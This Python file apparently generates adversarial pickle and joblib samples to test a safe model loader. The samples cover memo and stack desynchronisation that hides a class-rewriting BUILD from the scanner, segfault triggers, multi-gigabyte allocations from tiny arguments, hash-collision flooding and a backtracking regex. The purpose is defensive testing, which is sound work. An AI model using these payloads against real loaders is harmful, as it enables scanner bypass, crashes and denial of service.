"""§6 (round 2): the walker's machine model and allocation hidden in small arguments.

* Memo desynchronisation: a vocabulary run (>= 8 ``SHORT_BINUNICODE, MEMOIZE, BININT1``
  entries) is read back with BINGET. The round-1 walker then counted the run's memo slots
  twice, so every later MEMOIZE landed 8 slots away from CPython's: a BINGET fetched, for
  CPython, the object the attacker wanted and, for the walker, a harmless decoy. Each sample
  aims a walker-only check at the decoy while CPython acts on the real object.
* Allocation: arguments of a few bytes that make an allowed name allocate gigabytes (a
  subarray dtype in a reconstruction placeholder, NEWOBJ arguments of ``ndarray``, a
  materialising callable over ``range``).
"""

from __future__ import annotations

import struct
import zlib

import craft as C
from craft import CRASH, HANG, MEMORY, Raw, Sample, binget, call, check, i, pk, sglob, tup, u

SECTION = "6"
_RUN = 8  # entries in the vocabulary run (the walker takes runs of >= 8 in one step)
_TUPLE1 = b"\x85"
_SETITEM = b"s"
_APPEND = b"a"
_TUPLE2 = b"\x86"


def _desync_prefix() -> bytes:
    """A dict filled by one vocabulary run (memo slots 0..8), then a read into the run."""
    entries = b"".join(u(f"w{k}") + C.MEMOIZE + i(k) for k in range(_RUN))
    return C.EMPTY_DICT + C.MEMOIZE + C.MARK + entries + C.SETITEMS + binget(1) + C.POP + C.POP


def _decoy_then(target: bytes, decoy: bytes) -> bytes:
    """``decoy`` memoized first (CPython slot 9, round-1 walker slot 17), seven fillers, then ``target``
    (CPython slot 17): ``BINGET 17`` gives CPython the target and the round-1 walker the decoy."""
    fillers = b"".join(C.NONE + C.MEMOIZE + C.POP for _ in range(7))
    return _desync_prefix() + decoy + C.MEMOIZE + C.POP + fillers + target + C.MEMOIZE + C.POP + binget(17)


_INTERVAL = sglob("sklearn._loss.link", "Interval") + C.EMPTY_TUPLE + C.NEWOBJ  # an inert NEW instance
_PWN = "safeload-pwned"


def _desync_build_class() -> bytes:
    target = sglob("sklearn._loss.loss", "HalfSquaredError")
    body = _decoy_then(target, _INTERVAL) + tup(None, {"loss": _PWN}) + C.BUILD
    return pk(body, framed=False)


def _stack_desync_build_class() -> bytes:
    """TUPLE2 over a vocabulary run and a value: the walker (until this round) took the run as one item,
    so its stack fell 2*8-1 values short of CPython's. Fifteen POPs later the walker's top was the inert
    instance 15 places down, CPython's the class: BUILD rewrote the class while scan said safe."""
    entries = b"".join(u(f"w{k}") + C.MEMOIZE + i(k) for k in range(_RUN))
    fillers = C.NONE * (2 * _RUN - 2)
    body = (_INTERVAL + fillers + sglob("sklearn._loss.loss", "HalfSquaredError") + entries + u("x")
            + _TUPLE2 + C.POP * (2 * _RUN) + tup(None, {"loss": _PWN}) + C.BUILD)
    return pk(body, framed=False)


def _desync_object_array() -> bytes:
    placeholder = call(sglob(*C.RECONSTRUCT), Raw(sglob("numpy", "ndarray")), (0,), b"b")
    state = tup(1, (64,), Raw(C.np_dtype("O8", C.DT_OBJ)), False, [1, 2, 3])
    return pk(_decoy_then(placeholder, _INTERVAL) + state + C.BUILD, framed=False)


def _desync_call_new_class() -> bytes:
    target = sglob("scipy.sparse._csr", "csr_matrix")
    decoy = sglob("builtins", "complex")  # a CALL entry: calling it is allowed
    return pk(_decoy_then(target, decoy) + tup((10**9, 10**9)) + C.REDUCE, framed=False)


def _tree_never_built() -> bytes:
    """Tree(1, [1], 1) called and never given a state: the constructor's empty node array (capacity 0)."""
    n_classes = C.np_array((1,), C.np_simple_dtype("i8"), (1).to_bytes(8, "little"))
    return C.decision_tree_regressor(call(sglob("sklearn.tree._tree", "Tree"), 1, Raw(n_classes), 1))


def _dummy_regressor_wide() -> bytes:
    """A DummyRegressor whose n_outputs_ says 10**9 next to a one-value constant_: predict fills an
    (n, n_outputs_) array with it (8 GB per row)."""
    est = sglob("sklearn.dummy", "DummyRegressor") + C.EMPTY_TUPLE + C.NEWOBJ
    state = {
        "strategy": "mean", "constant": None, "quantile": None, "n_features_in_": 1, "n_outputs_": 10**9,
        "constant_": Raw(C.np_array((1, 1), C.np_simple_dtype("f8"), bytes(8))), "_sklearn_version": "1.9.1",
    }
    return pk(est + C.v(state) + C.BUILD)


def _vectorizer_backtracking() -> bytes:
    """A fitted CountVectorizer whose token_pattern backtracks exponentially: transform on 40 characters
    takes about a day in Python's regular-expression engine."""
    est = sglob("sklearn.feature_extraction.text", "CountVectorizer") + C.EMPTY_TUPLE + C.NEWOBJ
    state = {
        "input": "content", "encoding": "utf-8", "decode_error": "strict", "strip_accents": None,
        "preprocessor": None, "tokenizer": None, "analyzer": "word", "lowercase": True,
        "token_pattern": "(?:a|a)+b", "stop_words": None, "max_df": Raw(b"G" + struct.pack(">d", 1.0)), "min_df": 1, "max_features": None,
        "ngram_range": (1, 1), "vocabulary": None, "binary": False, "dtype": Raw(sglob("numpy", "int64")),
        "fixed_vocabulary_": False, "vocabulary_": {"ab": 0, "b": 1}, "_sklearn_version": "1.9.1",
    }
    return pk(est + C.v(state) + C.BUILD)


def _tuple_dag(levels: int) -> bytes:
    """t0 = (), t[k+1] = (t[k], t[k]) through the memo: 4 bytes a level, 2**levels items to hash."""
    body = C.EMPTY_TUPLE + C.MEMOIZE + C.POP
    for k in range(levels):
        body += binget(k) + binget(k) + _TUPLE2 + C.MEMOIZE + C.POP
    return body  # (memo slot k holds t[k]; the stack is as it was)


def samples_hashing() -> list[Sample]:
    """Values the unpickler hashes: tuples nested deeper than C can recurse, or shared so that hashing
    them is exponential in the file (tuple hashes are not cached)."""
    deep = C.EMPTY_TUPLE + b"\x85" * 1_000_000  # TUPLE1, a million times
    dag = _tuple_dag(60)
    return [
        Sample("s6_deep_tuple_key.pkl", "hash-deep-tuple-key", SECTION,
               "A dict key nested a million tuples deep (one byte a level): CPython's tuplehash recurses in C "
               "without a recursion check, and plain pickle overflows the stack (segfault).",
               pk(C.EMPTY_DICT + deep + C.NONE + _SETITEM, framed=False), "pickle", CRASH,
               error="LimitExceededError"),
        Sample("s6_tuple_dag_key.pkl", "hash-tuple-dag-key", SECTION,
               "A dict key built as t[k+1] = (t[k], t[k]) through the memo, 60 levels: 250 bytes that take "
               "2**60 steps to hash when SETITEM inserts it.",
               pk(C.EMPTY_DICT + dag + binget(60) + C.NONE + _SETITEM), "pickle", HANG, error="LimitExceededError"),
        Sample("s6_tuple_dag_frozenset.pkl", "hash-tuple-dag-frozenset", SECTION,
               "The same 60-level tuple DAG as a FROZENSET item.",
               pk(dag + C.MARK + binget(60) + b"\x91"), "pickle", HANG, error="LimitExceededError"),
        Sample("s6_tuple_dag_counter.pkl", "hash-tuple-dag-counter", SECTION,
               "collections.Counter([dag]): the allowed materialising call hashes each item of its argument.",
               pk(dag + sglob("collections", "Counter") + C.EMPTY_LIST + binget(60) + _APPEND + _TUPLE1
                  + C.REDUCE),
               "pickle", HANG, error="LimitExceededError", global_=None),
    ]


#: sys.hash_info.modulus: ints equal modulo it share a hash (CPython randomises str and bytes only).
_MODULUS = (1 << 61) - 1
_COLLIDING = 50_000  # keys of one hash: 50,000**2/2 comparisons, 25-71 s under plain pickle


def _colliding_ints() -> list[int]:
    return [1 + k * _MODULUS for k in range(_COLLIDING)]


def _batched(entries: list[bytes], op: bytes, per: int = 1000) -> bytes:
    """MARK, ``per`` entries, ``op`` (SETITEMS, APPENDS, ADDITEMS) until all are given."""
    return b"".join(C.MARK + b"".join(entries[k:k + per]) + op for k in range(0, len(entries), per))


def _colliding_complex() -> list[tuple[int, int]]:
    """complex(c - 1000003*k, k): hash(complex) is hash(real) + 1000003*hash(imag), so all share c's."""
    c = 10**15
    pairs = [(c - 1_000_003 * k, k) for k in range(_COLLIDING)]
    assert len({hash(complex(*p)) for p in pairs}) == 1 and len(set(pairs)) == _COLLIDING
    return pairs


def samples_collisions() -> list[Sample]:
    """Distinct keys built to share one hash: each insertion compares the new key with every earlier
    one of its hash, so n keys cost n**2/2 comparisons (hash flooding: Python randomises only str and
    bytes hashes). One sample per way in: dict keys, set items of a called type, a materialising call
    over pairs, and tuples in a FROZENSET."""
    ints = _colliding_ints()
    assert len({hash(k) for k in ints}) == 1
    cplx = sglob("builtins", "complex") + C.MEMOIZE + C.POP  # memo slot 0
    return [
        Sample("s6_collide_int_keys.pkl", "hash-collide-dict-keys", SECTION,
               f"A dict of {_COLLIDING:,} int keys equal modulo 2**61-1 (11 bytes each): CPython hashes them all "
               "alike and compares each new key with every earlier one, 1.25e9 comparisons.",
               pk(C.EMPTY_DICT + _batched([i(k) + C.NONE for k in ints], C.SETITEMS), framed=False), "pickle", HANG,
               error="LimitExceededError"),
        Sample("s6_collide_complex_set.pkl", "hash-collide-set-items", SECTION,
               f"A set of {_COLLIDING:,} builtins.complex(c - 1000003*k, k): all hash as c, so ADDITEMS compares "
               "each with every earlier one.",
               pk(cplx + b"\x8f" + _batched([binget(0) + i(r) + i(m) + _TUPLE2 + C.REDUCE
                                                 for r, m in _colliding_complex()], b"\x90"), framed=False),
               "pickle", HANG, error="LimitExceededError"),
        Sample("s6_collide_ordereddict_pairs.pkl", "hash-collide-materialise-pairs", SECTION,
               f"collections.OrderedDict([(k, None), ...]) over {_COLLIDING:,} colliding int keys: the allowed "
               "materialising call hashes every pair's key.",
               pk(sglob("collections", "OrderedDict") + C.EMPTY_LIST
                  + _batched([i(k) + C.NONE + _TUPLE2 for k in ints], C.APPENDS) + _TUPLE1 + C.REDUCE,
                  framed=False), "pickle", HANG, error="LimitExceededError"),
        Sample("s6_collide_tuple_frozenset.pkl", "hash-collide-frozenset-tuples", SECTION,
               f"A FROZENSET of {_COLLIDING:,} one-item tuples of colliding ints: tuples combine their items' "
               "hashes, so they collide too.",
               pk(C.MARK + b"".join(i(k) + _TUPLE1 for k in ints) + b"\x91", framed=False), "pickle", HANG,
               error="LimitExceededError"),
        Sample("s6_collide_rehash_ordereddict.pkl", "hash-collide-rehash", SECTION,
               f"One dict of {_REHASH_KEYS:,} colliding int keys (8 M comparisons, within the hash budget) read back "
               f"through the memo and passed to collections.OrderedDict {_REHASH_COPIES} times: each copy compares "
               "them all again (a count per insertion, or a verdict per call, misses it).",
               pk(sglob("collections", "OrderedDict") + C.MEMOIZE + C.POP  # memo slot 0
                  + C.EMPTY_DICT + C.MEMOIZE  # memo slot 1
                  + _batched([i(k) + C.NONE for k in ints[:_REHASH_KEYS]], C.SETITEMS) + C.POP
                  + C.MARK + (binget(0) + binget(1) + _TUPLE1 + C.REDUCE) * _REHASH_COPIES + b"l",
                  framed=False), "pickle", HANG, error="LimitExceededError"),
    ]


#: The re-hash sample: 4,000 keys (8 M comparisons) copied 200 times, 52 KB, 61-68 s under plain pickle.
_REHASH_KEYS, _REHASH_COPIES = 4_000, 200
#: Long keys: 5,000 tuples of 600 items (12.5 M comparisons, within the budget as a count; 7.5 G item
#: steps). Session 23's 4,000 x 300 took 6 s under plain pickle on a faster machine than its own: too
#: close to the tests' 5 s that tell a hang, so every hang sample here now takes 15 s or more.
_LONG_KEYS, _LONG_ITEMS = 5_000, 600
#: Keys the round-2 proxy could not evaluate: 50,000 of them (30,000 took 5.3 s, see above).
_OPAQUE_KEYS = 50_000


def samples_comparison_cost() -> list[Sample]:
    """Colliding keys whose comparisons are expensive, or whose value the walker did not evaluate:
    the session-22 count charged one step per comparison and stood for such keys by identity."""
    ints = _colliding_ints()
    shared = u("shared") + C.MEMOIZE + C.POP  # memo slot 0
    fset = (sglob("copyreg", "_reconstructor") + C.MEMOIZE + C.POP  # slot 0
            + sglob("builtins", "frozenset") + C.MEMOIZE + C.POP)  # slot 1
    cplx = sglob("builtins", "complex") + C.MEMOIZE + C.POP  # slot 0
    return [
        Sample("s6_collide_long_tuples.pkl", "hash-collide-long-keys", SECTION,
               f"A dict of {_LONG_KEYS:,} tuples of {_LONG_ITEMS} items, equal but for a last colliding int: "
               f"{_LONG_KEYS**2 // 2:,} comparisons (within the hash budget as a count), but each walks the "
               f"{_LONG_ITEMS} items.",
               pk(shared + C.EMPTY_DICT + b"".join(C.MARK + binget(0) * (_LONG_ITEMS - 1) + i(k) + b"t" + C.NONE
                                                   + _SETITEM for k in ints[:_LONG_KEYS]), framed=False),
               "pickle", HANG, error="LimitExceededError"),
        Sample("s6_collide_frozenset_reconstructor.pkl", "hash-collide-reconstructor", SECTION,
               f"A dict of {_OPAQUE_KEYS:,} keys copyreg._reconstructor(frozenset, frozenset, [k]) (the protocol "
               "0-1 spelling of a frozenset): the walker modelled the result as an instance hashed by identity.",
               pk(fset + C.EMPTY_DICT + _batched([binget(0) + binget(1) + binget(1) + C.EMPTY_LIST + i(k) + _APPEND
                                                  + b"\x87" + C.REDUCE + C.NONE for k in ints[:_OPAQUE_KEYS]],
                                                 C.SETITEMS), framed=False),
               "pickle", HANG, error="LimitExceededError"),
        Sample("s6_collide_complex_text.pkl", "hash-collide-complex-text", SECTION,
               f"A set of {_OPAQUE_KEYS:,} builtins.complex('<c - 1000003*k>+<k>j'): the proxy evaluated complex "
               "numbers from numbers only, so these were counted by identity.",
               pk(cplx + b"\x8f" + _batched([binget(0) + u(f"{r}+{m}j") + _TUPLE1 + C.REDUCE
                                                  for r, m in _colliding_complex()[:_OPAQUE_KEYS]], b"\x90"),
                  framed=False), "pickle", HANG, error="LimitExceededError"),
    ]


#: Inference-time hashing: classes_ of 50,000 colliding ints (1.25e9 comparisons per transform call);
#: the memo-read variant: 4,000 distinct ones, then 400,000 reads of the last (each costs 3,999).
_READ_DISTINCT, _READ_REPEATS = 4_000, 400_000
_LABEL_ENCODER = sglob("sklearn.preprocessing._label", "LabelEncoder") + C.EMPTY_TUPLE + C.NEWOBJ


def samples_inference_hashing() -> list[Sample]:
    """Values a fitted model hashes when it is *used*: LabelEncoder.transform builds a set and a
    dict of ``classes_``, MultiLabelBinarizer a dict, the encoders sets of ``categories_``. The
    walker counted colliding dict keys and set items, not the items of a list or object array:
    these loaded at once and hung the first ``transform``."""
    ints = _colliding_ints()
    obj_dtype = C.np_dtype("O8", C.DT_OBJ)

    def encoder(n: int, items: bytes) -> bytes:
        array = C.np_array((n,), obj_dtype, Raw(C.EMPTY_LIST + items))
        return pk(_LABEL_ENCODER + C.v({"classes_": Raw(array)}) + C.BUILD, framed=False)

    distinct = b"".join(i(k) + C.MEMOIZE for k in ints[:_READ_DISTINCT])  # memo slots 0..3999 (dtype: none)
    reads = [C.long_binget(_READ_DISTINCT - 1)] * _READ_REPEATS
    return [
        Sample("s6_collide_labelencoder_classes.pkl", "hash-collide-object-array-inference", SECTION,
               f"A LabelEncoder whose classes_ is an object array of {_COLLIDING:,} ints equal modulo 2**61-1: it "
               "loads at once, and transform() hashes classes_ into a set and a dict (1.25e9 comparisons each).",
               encoder(_COLLIDING, _batched([i(k) for k in ints], C.APPENDS)), "pickle", HANG,
               error="LimitExceededError", after_load="obj.transform(obj.classes_[:1])"),
        Sample("s6_collide_labelencoder_memo_reads.pkl", "hash-collide-object-array-memo-reads", SECTION,
               f"classes_ holds {_READ_DISTINCT:,} colliding ints, then {_READ_REPEATS:,} memo reads of the last: "
               "each copy costs every earlier key of its hash again when hashed. The walker counted batches of "
               "memo reads into a list without looking at what they read.",
               encoder(_READ_DISTINCT + _READ_REPEATS, C.MARK + distinct + C.APPENDS + _batched(reads, C.APPENDS)),
               "pickle", HANG, error="LimitExceededError", after_load="obj.transform(obj.classes_[:1])"),
    ]


def samples() -> list[Sample]:
    out: list[Sample] = []
    out.append(Sample(
        "s6_memo_desync_build_class.pkl", "memo-desync-build-class", SECTION,
        "A BINGET into a vocabulary run desynchronised the round-1 walker's memo; BINGET 17 then gave CPython "
        "the class HalfSquaredError and the walker an inert instance, so BUILD (None, {...}) rewrote a method "
        "process-wide while scan said safe.",
        _desync_build_class(), "pickle",
        check(f"__import__('sklearn._loss.loss', fromlist=['_']).HalfSquaredError.__dict__.get('loss') == {_PWN!r}"),
        global_="sklearn._loss.loss.HalfSquaredError",
    ))
    out.append(Sample(
        "s6_stack_desync_build_class.pkl", "stack-desync-build-class", SECTION,
        "TUPLE2 over a vocabulary run: the walker took the run as one stack item instead of its 16 values, "
        "so after 16 POPs its top was an inert instance and CPython's the class HalfSquaredError; BUILD "
        "(None, {...}) rewrote a method process-wide (found by the oracle campaign, seed 11 case 430845).",
        _stack_desync_build_class(), "pickle",
        check(f"__import__('sklearn._loss.loss', fromlist=['_']).HalfSquaredError.__dict__.get('loss') == {_PWN!r}"),
        global_="sklearn._loss.loss.HalfSquaredError",
    ))
    out.append(Sample(
        "s6_memo_desync_object_array.pkl", "memo-desync-object-array", SECTION,
        "Memo desynchronisation aims the walker's object-array check at a decoy while CPython BUILDs a 64-element "
        "object array from a 3-item list: numpy reads pointers past the list (segfault).",
        _desync_object_array(), "pickle", CRASH,
    ))
    out.append(Sample(
        "s6_memo_desync_call_csr.pkl", "memo-desync-call-new-class", SECTION,
        "Memo desynchronisation: the walker saw builtins.complex called, CPython called the NEW-only class "
        "scipy.sparse.csr_matrix((10**9, 10**9)), which allocates an 8 GB index array.",
        _desync_call_new_class(), "pickle", MEMORY, global_="scipy.sparse._csr.csr_matrix",
    ))
    out.append(Sample(
        "s6_memo_desync_call_csr.joblib", "memo-desync-call-new-class-zlib", SECTION,
        "The same memo desynchronisation inside a zlib-compressed joblib file.",
        zlib.compress(_desync_call_new_class(), 9), "joblib-zlib", MEMORY,
        global_="scipy.sparse._csr.csr_matrix", loader="joblib",
    ))
    subarray = call(sglob("numpy", "dtype"), "(200000000,)O")
    out.append(Sample(
        "s6_reconstruct_subarray_dtype.pkl", "alloc-reconstruct-subarray-dtype", SECTION,
        "_reconstruct(ndarray, (1,), dtype('(2*10**8,)O')): the placeholder guard counted only the shape; "
        "the subarray dtype makes numpy allocate 1.6 GB for one element.",
        pk(call(sglob(*C.RECONSTRUCT), Raw(sglob("numpy", "ndarray")), (1,), Raw(subarray))), "pickle", MEMORY,
        error="LimitExceededError",
    ))
    out.append(Sample(
        "s6_newobj_ndarray_shape.pkl", "alloc-newobj-ndarray-shape", SECTION,
        "NEWOBJ numpy.ndarray with arguments ((2**33,), 'u1'): ndarray.__new__ allocates 8 GB; real pickles "
        "never pass arguments to the __new__ of a NEW-only class.",
        pk(sglob("numpy", "ndarray") + tup((2**33,), "u1") + C.NEWOBJ), "pickle", MEMORY, global_="numpy.ndarray",
    ))
    for name, module, qual in (("set", "builtins", "set"), ("frozenset", "builtins", "frozenset"),
                               ("counter", "collections", "Counter")):
        rng = call(sglob("builtins", "range"), 10**9)
        out.append(Sample(
            f"s6_materialise_{name}_range.pkl", f"alloc-materialise-{name}-range", SECTION,
            f"{module}.{qual}(range(10**9)): a lazy range costs the file a few bytes; materialising it allocates "
            "tens of gigabytes.",
            pk(call(sglob(module, qual), Raw(rng))), "pickle", MEMORY, error="LimitExceededError",
        ))
    out.append(Sample(
        "s6_reconstructor_frozenset_range.pkl", "alloc-reconstructor-frozenset-range", SECTION,
        "copyreg._reconstructor(frozenset, frozenset, range(10**9)): frozenset.__new__ materialises the range.",
        pk(call(sglob("copyreg", "_reconstructor"), Raw(sglob("builtins", "frozenset")),
                Raw(sglob("builtins", "frozenset")), Raw(call(sglob("builtins", "range"), 10**9)))),
        "pickle", MEMORY, error="LimitExceededError",
    ))
    out.append(Sample(
        "s6_randomstate_range_seed.pkl", "alloc-randomstate-range-seed", SECTION,
        "numpy.random.RandomState(range(10**9)): the legacy seeding turns the seed into an 8 GB array.",
        pk(call(sglob("numpy.random.mtrand", "RandomState"), Raw(call(sglob("builtins", "range"), 10**9)))),
        "pickle", MEMORY, error="LimitExceededError",
    ))
    out.append(Sample(
        "s6_tree_never_built.pkl", "tree-never-built", SECTION,
        "A DecisionTreeRegressor whose Tree is constructed but never given a state (no BUILD): load's checks "
        "ran on every Tree state the stream BUILDs, and this one has none; its node array is empty and "
        "predict() reads node 0 (segfault). Found by the byte fuzzer, seed 105, as a POP where a forest's BUILD was.",
        _tree_never_built(), "pickle", CRASH, error="UnsafeModelError",
        after_load="obj.predict([[0.0]])", related=["sklearn.tree._tree.Tree"],
    ))
    out.append(Sample(
        "s6_dummy_regressor_wide_output.pkl", "stored-width-allocates", SECTION,
        "A DummyRegressor whose n_outputs_ is 10**9 next to a one-value constant_: predict([[0.0]]) fills a "
        "1 x 10**9 array (8 GB). Output widths fitted next to an array are recomputed from it (session 15's "
        "audit of inference-time work).",
        _dummy_regressor_wide(), "pickle", MEMORY, error="UnsafeModelError",
        after_load="obj.predict([[0.0]])", related=["sklearn.dummy.DummyRegressor"],
    ))
    out.append(Sample(
        "s6_vectorizer_backtracking_token_pattern.pkl", "token-pattern-backtracks", SECTION,
        "A fitted CountVectorizer whose token_pattern is (?:a|a)+b: transform(['a' * 40]) backtracks through "
        "2**40 paths in Python's regular-expression engine (a day of CPU for one short document).",
        _vectorizer_backtracking(), "pickle", HANG, error="UnsafeModelError",
        after_load="obj.transform(['a' * 40])", related=["sklearn.feature_extraction.text.CountVectorizer"],
    ))
    out.extend(samples_hashing())
    out.extend(samples_collisions())
    out.extend(samples_comparison_cost())
    out.extend(samples_inference_hashing())
    return out
